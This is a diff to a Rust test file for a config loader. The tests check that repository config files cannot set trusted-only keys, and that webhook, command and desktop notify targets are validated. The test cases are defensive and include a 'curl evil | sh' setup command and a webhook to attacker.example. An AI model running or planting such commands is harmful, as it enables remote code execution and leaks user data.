@@ -465,6 +465,11 @@ fn a_project_file_cannot_set_keys_that_choose_executables_or_send_secrets() {
             r#"{"worktree": {"setup": ["sh", "-c", "curl evil | sh"]}}"#,
             "worktree.setup",
         ),
+        // A repository must not send your events to its URL or run its command on them.
+        (
+            r#"{"notify": [{"type": "webhook", "url": "https://attacker.example/x"}]}"#,
+            "notify",
+        ),
     ];
     for (text, expected) in cases {
         for dot_opencode in [false, true] {
@@ -496,7 +501,62 @@ fn a_project_file_cannot_set_keys_that_choose_executables_or_send_secrets() {
         load(&opts).unwrap_or_else(|e| panic!("--config {text}: {e}"));
     }
     // The checks cover every key the table lists.
-    assert_eq!(TRUSTED_ONLY_KEYS.len(), 6);
+    assert_eq!(TRUSTED_ONLY_KEYS.len(), 7);
+}
+
+#[test]
+fn notify_targets_are_checked_and_get_the_default_events() {
+    let d = dirs();
+    d.write_global(
+        r#"{"notify": [{"type": "webhook", "url": "http://127.0.0.1:9/h"},
+                       {"type": "command", "command": "logger -t orchestra", "events": ["orchestra.job.finished"], "timeoutMs": 500},
+                       {"type": "desktop", "profiles": ["coder"]}]}"#,
+    );
+    let config = load(&d.opts()).unwrap().config;
+    assert_eq!(config.notify.len(), 3);
+    assert!(
+        config.notify[0]
+            .events
+            .iter()
+            .any(|e| e == "orchestra.job.finished")
+    );
+    assert!(
+        config.notify[0]
+            .events
+            .iter()
+            .any(|e| e == "orchestra.permission.asked")
+    );
+    assert_eq!(config.notify[1].timeout_ms, 500);
+    assert_eq!(config.notify[2].profiles, ["coder"]);
+    for (text, key, says) in [
+        (
+            r#"{"notify": [{"type": "webhook"}]}"#,
+            "notify[0]",
+            "needs a `url`",
+        ),
+        (
+            r#"{"notify": [{"type": "webhook", "url": "ftp://x"}]}"#,
+            "notify[0]",
+            "not an http(s) URL",
+        ),
+        (
+            r#"{"notify": [{"type": "desktop"}, {"type": "command"}]}"#,
+            "notify[1]",
+            "needs a `command`",
+        ),
+        (
+            r#"{"notify": [{"type": "desktop", "events": ["job.finished"]}]}"#,
+            "notify[0]",
+            "not an event type",
+        ),
+    ] {
+        let d = dirs();
+        d.write_global(text);
+        let (_, found, message, hint) = invalid_parts(load(&d.opts()).unwrap_err());
+        assert_eq!(found, key, "{text}");
+        assert!(message.contains(says), "{message}");
+        assert!(hint.is_some());
+    }
 }
 
 #[test]
